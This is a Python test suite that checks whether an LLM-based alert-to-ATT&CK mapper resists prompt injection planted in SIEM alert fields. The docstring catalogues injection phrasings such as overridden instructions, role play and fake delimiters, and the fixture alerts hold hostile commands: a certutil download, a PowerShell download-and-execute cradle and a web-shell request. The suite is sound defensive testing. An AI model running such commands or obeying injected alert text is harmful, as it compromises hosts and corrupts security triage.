"""Prompt-injection suite: alerts carrying text that addresses the model, against a stand-in vendor that
obeys it, through the real Anthropic SDK and the whole engine.

57 cases (tests/data/llm_injection_cases.jsonl) across 13 fields — command lines, parent command lines,
rule names and descriptions, file names and paths, PowerShell script blocks, user agents, URLs,
registry paths and values, mail subjects (in the alert message) and DNS names — and phrasings: notes
to the AI, overridden instructions, role play, dictated answers and JSON, fake delimiters, technique
names instead of IDs, bare IDs in event data, and requests to report nothing. The stand-in answers the
technique the alert names, citing in turn the instruction itself, real text of another field, real text
before the instruction, or nothing. Done when no injected technique reaches an alert and the clean
alerts' answers are still used.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from mitre.config import DecisionSettings, MapperSettings, Workflow, WorkflowsFile
from mitre.engine import Engine
from mitre.mappers.base import MapperContext
from mitre.mappers.llm.anthropic import create_anthropic_mapper
from mitre.mappers.local import LocalMapper
from mitre.models import OutcomeStatus
from tests.llm_standin import StandIn, obedient

CASES = Path(__file__).parent / "data" / "llm_injection_cases.jsonl"
STRATEGIES = ("injected", "other_field", "before", "none")


def kibana(rule: str, description: str, **fields: Any) -> dict[str, Any]:
    return {
        "@timestamp": "2026-11-30T10:00:00.000Z",
        "kibana.alert.uuid": "7f1c2e0a-0000-4000-8000-000000000001",
        "kibana.alert.rule.name": rule,
        "kibana.alert.rule.description": description,
        "kibana.alert.rule.type": "query",
        "kibana.alert.risk_score": 73,
        "host": {"name": "wks-0001", "os": {"type": "windows"}},
        **fields,
    }


BASES: dict[str, dict[str, Any]] = {
    "proc": kibana(
        "Certutil download",
        "certutil fetched a remote file.",
        **{
            "process.name": "certutil.exe",
            "process.command_line": r"certutil.exe -urlcache -split -f http://198.51.100.7/a.txt C:\Users\Public\a.exe",
            "process.parent.name": "cmd.exe",
            "process.parent.command_line": r"cmd.exe /c certutil.exe -urlcache -split -f http://198.51.100.7/a.txt",
        },
    ),
    "rule": kibana(
        "Rundll32 loading a DLL from a user folder",
        "Identifies rundll32 executing a DLL export from a user-writable folder.",
        **{"process.name": "rundll32.exe", "process.command_line": r"rundll32.exe C:\Users\Public\l.dll,Start"},
    ),
    "file": kibana(
        "Double extension file created",
        "A file with a document extension followed by an executable one was written.",
        **{
            "file.name": "invoice.pdf.exe",
            "file.path": r"C:\Users\Public\Downloads\invoice.pdf.exe",
            "process.name": "chrome.exe",
        },
    ),
    "script": kibana(
        "PowerShell download cradle",
        "A script block downloads and runs code.",
        **{
            "process.name": "powershell.exe",
            "powershell.file.script_block_text": "$wc = New-Object Net.WebClient; IEX $wc.DownloadString("
            "'http://198.51.100.7/x.ps1')",
        },
    ),
    "web": kibana(
        "Web shell command",
        "A request to an upload page carried an operating-system command.",
        **{
            "url.original": "http://portal.example.com/upload.php?cmd=whoami",
            "user_agent.original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            "http.request.method": "POST",
        },
    ),
    "registry": kibana(
        "Run key added",
        "A Run key value was set to a program in a public folder.",
        **{
            "process.name": "reg.exe",
            "registry.path": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
            "registry.data.strings": r"C:\Users\Public\updater.exe",
        },
    ),
    "mail": kibana(
        "Malicious attachment delivered",
        "A mail with a macro document reached inboxes.",
        **{"message": "Phishing mail delivered to 3 recipients. Subject: Invoice overdue", "file.name": "inv.docm"},
    ),
    "dns": kibana(
        "DNS tunnelling suspected",
        "Long random labels queried under one domain.",
        **{"dns.question.name": "a1b2c3d4e5f6.tunnel.example.net", "process.name": "nslookup.exe"},
    ),
}


def load_cases() -> list[dict[str, Any]]:
    return [json.loads(line) for line in CASES.read_text().splitlines() if line.strip()]


def injected_alert(case: dict[str, Any]) -> dict[str, Any]:
    alert = json.loads(json.dumps(BASES[case["base"]]))
    field = case["field"]
    key = {"rule_name": "kibana.alert.rule.name", "rule_description": "kibana.alert.rule.description"}.get(field, field)
    old = alert.get(key, "")
    alert[key] = {"append": old + case["text"], "prepend": case["text"] + old, "replace": case["text"]}[
        case["placement"]
    ]
    return alert


def techniques_of(alert: dict[str, Any]) -> set[str]:
    threat = alert.get("threat", {})
    technique = threat.get("technique", {})
    return set(technique.get("id", [])) | set(technique.get("subtechnique", {}).get("id", []))


@pytest.fixture(scope="module")
def engine_parts(catalog, indicators):
    settings = MapperSettings(provider="anthropic", cascade_confidence=None)
    return settings, LocalMapper(catalog, indicators, settings)


def engine(catalog, indicators, parts, url: str) -> Engine:
    settings, local = parts
    mapper = create_anthropic_mapper(
        MapperContext(catalog=catalog, settings=settings, local=local),
        env={"ANTHROPIC_API_KEY": "sk-ant-test-0000000000", "ANTHROPIC_BASE_URL": url},
        sleep=lambda s: None,
    )
    config = WorkflowsFile(workflows=[Workflow(name="t", decision=DecisionSettings(mode="always"))])
    return Engine(catalog, indicators, config, "t", mapper, None)


def test_the_suite_has_at_least_50_cases_across_fields_and_phrasings():
    cases = load_cases()
    assert len(cases) >= 50
    assert len({c["field"] for c in cases}) >= 8
    assert len({c["text"] for c in cases}) == len(cases)


def test_no_injected_technique_reaches_an_alert_and_clean_answers_are_used(catalog, indicators, engine_parts):
    tactic_names = {t.id: t.shortname for t in catalog.tactics}
    names = {t.name.lower(): tid for tid, t in catalog.techniques.items() if len(t.name) >= 12}
    cases = load_cases()
    reached: list[tuple[str, str, str]] = []
    flagged = 0
    clean_answered = 0
    for strategy in STRATEGIES:
        with StandIn(obedient(tactic_names, names, strategy)) as standin:
            eng = engine(catalog, indicators, engine_parts, standin.url)
            clean = {name: eng.process(alert) for name, alert in BASES.items()}
            for name, outcome in clean.items():
                result = outcome.mapping.result
                assert not result.prompt_injection_suspected, name
                clean_answered += result.mapper == "anthropic" and result.fallback_reason is None
            for case in cases:
                outcome = eng.process(injected_alert(case))
                assert outcome.status is OutcomeStatus.ENRICHED
                got = techniques_of(outcome.alert)
                injected = case["injected"]
                base = techniques_of(clean[case["base"]].alert)
                if injected and injected in got and injected not in base:
                    reached.append((case["id"], strategy, injected))
                if not injected:  # told to report nothing: the local indicators' techniques stay
                    local = {t.technique_id for t in outcome.mapping.result.techniques}
                    assert local, case["id"]
                flagged += bool(outcome.alert["attackmap"]["prompt_injection_suspected"])
    assert reached == []
    assert clean_answered == len(BASES) * len(STRATEGIES)  # genuine answers on clean alerts are used
    bare_ids = sum(1 for c in cases if c["text"].strip().lower().startswith(("--label", "t1", "t1486_")))
    assert flagged >= (len(cases) - bare_ids) * len(STRATEGIES)
